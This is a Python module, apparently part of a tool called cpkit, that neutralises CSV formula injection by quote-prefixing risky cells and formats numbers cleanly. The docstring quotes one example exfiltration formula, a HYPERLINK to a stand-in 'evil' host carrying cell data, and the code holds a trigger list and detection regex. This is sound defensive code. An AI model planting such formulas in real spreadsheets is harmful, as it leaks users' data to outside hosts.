"""CSV cells that stay text when opened in Excel or LibreOffice.

A cell starting with ``= + - @`` (or a tab or carriage return) is run as a formula by a
spreadsheet: ``=HYPERLINK("http://evil/?"&A1, "Click")`` typed into an extract would leak the
row when someone opens the metrics CSV or a quarantine file. Every CSV cpkit writes passes its
text through ``safe_cell`` (or ``safe_table``), which puts a ``'`` in front, as OWASP
recommends; Excel shows the text as typed. Numbers are written as numbers and left alone: -5
is a number, not a formula.

``csv_value`` is the one way a value becomes a CSV cell: ``true``/``false`` for booleans
(never Python's ``True``), an empty cell for None, and a number without binary noise:
``0.1 + 0.2`` is written ``0.3`` and ``15.400000000000006`` ``15.4`` (12 significant
digits, more than any figure has, and never in exponent form, which some tools read as
text).
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pyarrow as pa

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
SIGNIFICANT = 12  # digits a CSV number keeps: float noise sits in the 16th and 17th


def csv_value(value: Any) -> Any:
    """``value`` as a CSV cell: booleans as true/false, None empty, floats without noise,
    lists joined with '; ', text made safe (``safe_cell``)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        return clean_number(value)
    if isinstance(value, list | tuple):
        value = "; ".join(str(v) for v in value)
    return safe_cell(value)


def clean_number(value: float) -> str:
    """'0.3' for 0.30000000000000004, '689' for 689.0, '-0.0000094861360122' for
    -9.486136012218371e-06: at most ``SIGNIFICANT`` digits, fixed-point."""
    from decimal import Decimal

    if value != value or value in (float("inf"), float("-inf")):
        return ""  # not a figure (never produced by a metric; kept out of a CSV)
    text = format(Decimal(f"{value:.{SIGNIFICANT}g}"), "f")
    if "." in text:
        text = text.rstrip("0").rstrip(".")
    return "0" if text in ("-0", "") else text


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def safe_table(table: pa.Table) -> pa.Table:
    """Every text column of ``table`` through ``safe_cell`` (vectorised)."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    for column in table.columns:
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            risky = pc.fill_null(pc.match_substring_regex(column, r"^[=+\-@\t\r]"), False)
            column = pc.if_else(risky, pc.binary_join_element_wise("'", column, ""), column)
        columns.append(column)
    return pa.table(columns, names=table.column_names)
